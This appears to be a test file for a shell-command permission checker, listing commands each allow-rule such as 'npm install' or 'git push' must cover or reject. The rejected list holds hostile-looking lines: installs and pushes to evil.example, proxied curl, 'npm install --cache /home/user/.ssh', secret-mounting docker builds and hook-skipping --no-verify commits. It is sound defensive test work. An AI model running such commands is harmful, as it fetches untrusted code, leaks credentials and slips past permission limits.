import { expect, test } from 'bun:test';
import { classifyLine } from './classify-line.ts';
import { reasonsBeyond } from './prefix.ts';
import { covers } from './rules.ts';

const context = { home: '/home/user', project: '/home/user/project', cwd: '/home/user/project' };

/** The lines of a list that a rule covers. */
function covered(rule: string, lines: readonly string[]): readonly string[] {
  return lines.filter((line) => {
    const { parts, class: kind } = classifyLine(line, context);
    return kind !== 'unparseable' && parts.filter(({ words }) => words.length > 0).every((part) => covers(rule, part, context));
  });
}

const WITHIN: Readonly<Record<string, readonly string[]>> = {
  'npm install': [
    'npm install',
    'npm install lodash @types/node',
    'npm install -D --ignore-scripts vitest',
    'npm install --save-dev x@1.2',
  ],
  'npm install -g': ['npm install -g typescript'],
  'npm install --registry https://npm.example': ['npm install --registry https://npm.example x'],
  'npm test': ['npm test -- -u', 'npm test -- --grep /api/users', 'npm test -w site'],
  'npm ls': ['npm ls -g'],
  'pip install': ['pip install -U requests', 'pip install -r requirements.txt', 'pip install --pre -e .', 'pip install -q x'],
  'kubectl get': ['kubectl get pods -n prod -ojson', 'kubectl get pods --all-namespaces', 'kubectl get pods -l app=shop'],
  'npm audit': ['npm audit --json'],
  'make test': ['make test -j4 -s'],
  make: ['make test lint'],
  just: ['just test lint'],
  'gradle test': ['gradle test --tests FooTest -q'],
  'docker ps': ['docker ps -a --format json'],
  'docker compose up': ['docker compose up -d --build'],
  'docker build': ['docker build -t shop:1.2 --build-arg A=b .'],
  'docker pull': ['docker pull postgres:16', 'docker pull library/postgres'],
  'gh pr': ['gh pr list --state open', 'gh pr view 12 --json title'],
  'cargo build': ['cargo build --release'],
  'go test': ['go test -run TestHello ./...'],
  'git push': ['git push -u origin main'],
  'git fetch': ['git fetch --all --prune'],
  'git clone': ['git clone https://forge.example/a/b'],
  'git commit': [
    'git commit -m "see https://forge.example/12 and /etc/hosts"',
    'git commit --allow-empty -m x',
    'git commit -sqm "add all, amend nothing"',
  ],
  'git commit --amend': ['git commit --amend -m x'],
  curl: ['curl -fsSLo out.json -H "Accept: */*" https://a.example', 'curl -XPOST https://a.example -o /tmp/x'],
  'curl https://a.example/v1': ['curl https://a.example/v1 -s -XPOST'],
  cat: ['cat /etc/hosts ../other/x'],
  'mvn test': ['mvn test -q'],
  'terraform plan': ['terraform plan -out=plan.bin'],
  'cargo run': ['cargo run -- -o /tmp/out.json'],
  'uv run pytest': ['uv run pytest tests/test_x.py --junitxml /tmp/report.xml'],
};

const BEYOND: Readonly<Record<string, readonly string[]>> = {
  'npm run build': [
    'npm run build --registry=https://evil.example',
    'npm run build --reg evil.example',
    'npm run build --@scope:registry=https://evil.example',
    'npm run build --script-shell ./x',
  ],
  'npm install': [
    ...['npm install -g x', 'npm install -Dg x', 'npm install --glob x', 'npm install --location=global x', 'npm install --prefix ../x'],
    ...['npm install --registry=https://evil.example x', 'npm install --reg https://evil.example', 'npm install --userconfig x.npmrc'],
    ...[
      'npm install https://evil.example/x.tgz',
      'npm install x@https://evil.example/x.tgz',
      'npm install evil/x',
      'npm install github:evil/x',
    ],
    ...[
      'npm install ../other',
      'npm install git+ssh://git@evil.example/x',
      'npm install --//evil.example/:_authToken=x',
      'npm install --cache /home/user/.ssh',
    ],
  ],
  'pip install': [
    ...[
      'pip install --target=/opt/x y',
      'pip install -t x y',
      'pip install --targ x y',
      'pip install --user y',
      'pip install -i https://evil.example y',
    ],
    ...['pip install -qt x y', 'pip install git+https://evil.example/x', 'pip install -r /tmp/r.txt', 'pip install --proxy evil.example y'],
  ],
  'kubectl get': [
    ...['kubectl get pods --server https://evil.example', 'kubectl get pods -s evil.example', 'kubectl get pods -As evil.example'],
    ...['kubectl get pods --kubeconfig x', 'kubectl get pods --context=prod', 'kubectl get pods --as admin', 'kubectl get --raw /x'],
  ],
  'npm audit': ['npm audit fix', 'npm audit fix --force'],
  'make test': ['make test lint', 'make test -s install', 'make test .SHELLFLAGS=x'],
  'uv run pytest': ['uv run pytest /tmp/x.py', 'uv run pytest /tmp/x.py::test_one'],
  'bun test': ['bun test /tmp/x.test.ts'],
  'just test': ['just test deploy', 'just test --yes deploy'],
  'ninja test': ['ninja test install'],
  'ant test': ['ant test deploy'],
  'sbt test': ['sbt test publish'],
  'gradle test': ['gradle test run', 'gradle test --tests Foo publish'],
  'mvn test': ['mvn test deploy', 'mvn test exec:exec'],
  'gh api /user': ['gh api /user -X PATCH', 'gh api /user --method=PUT', 'gh api /user --input x'],
  'kubectl apply': ['kubectl apply -f x --prune'],
  'code .': ['code . --install-extension x'],
  'docker ps': ['docker ps --context other'],
  'docker build': [
    'docker build https://evil.example/x.git',
    'docker build -o ../x .',
    'docker build --secret id=a,src=.env .',
    'docker build ..',
  ],
  'docker pull': ['docker pull evil.example/x', 'docker pull localhost:5000/x'],
  'docker cp': ['docker cp a:/x ~/y'],
  'gh pr': ['gh pr list -R evil.example/a/b', 'gh pr comment 1 --repo=a/b -b x', 'gh pr create -F ../x'],
  'helm install': ['helm install a b --kube-context prod', 'helm install a oci://evil.example/x', 'helm install a b --post-renderer ./x'],
  'cargo install': ['cargo install --root x r', 'cargo install --git https://evil.example/r'],
  'git commit': [
    'git commit --amend -m x',
    'git commit --amen -m x',
    'git commit --allow-empty --no-verify -m x',
    'git commit -nm x',
    'git commit -am x',
    'git commit -a -m x',
    'git commit --all -m x',
    'git commit --fixup HEAD',
    'git commit -C HEAD',
    'git commit --author "a <a@b.example>" -m x',
    'git commit -m x --include a',
  ],
  'git push': [
    'git push --no-verify',
    'git push https://evil.example/x',
    'git push git@evil.example:x',
    'git push ../other main',
    'git push --repo=x',
  ],
  'git clone': ['git clone https://a.example/b ../c', 'git clone https://a.example/b /home/user/c'],
  'curl https://a.example/v1': [
    ...['curl https://a.example/v1 https://evil.example', 'curl https://a.example/v1 evil.example', 'curl https://a.example/v1 -x evil:80'],
    ...['curl https://a.example/v1 --connect-to ::evil.example:443', 'curl https://a.example/v1 --prox http://evil.example'],
  ],
  curl: ['curl -o /home/user/x https://a.example', 'curl -sk https://a.example', 'curl -K x'],
  'apt install': ['apt install ./x.deb', 'apt install -o Dir=/x y'],
  'systemctl status': ['systemctl status -H evil.example x'],
  'npm i': ['npm i $X', 'npm i "$X"'],
  'gem install': ['gem install -i x y', 'gem install --source https://evil.example y'],
  'psql -c "select 1"': ['psql -c "select 1" -h evil.example', 'psql -c "select 1" postgres://evil.example/x'],
  'aws s3 ls': ['aws s3 ls --endpoint-url https://evil.example', 'aws s3 ls --profile prod'],
};

test.each(Object.entries(WITHIN))('the rule "%s" covers what stays where it goes', (rule, lines) => {
  expect(covered(rule, lines)).toEqual(lines);
});

test.each(Object.entries(BEYOND))('the rule "%s" covers nothing that goes elsewhere', (rule, lines) => {
  expect(covered(rule, lines)).toEqual([]);
});

test('the word that a rule lacks is told', () => {
  const reasons = (line: string) => reasonsBeyond(classifyLine(line, context).parts, ['npm install', 'curl'], context);
  expect(reasons('npm install --registry=https://evil.example x && curl https://a.example')).toEqual([
    'the rule "npm install" does not cover --registry=https://evil.example',
  ]);
  expect(reasons('npm install "$X"')).toEqual(['the rule "npm install" does not cover a word that is known only when it runs']);
  expect(reasons('npm install x')).toEqual([]);
});
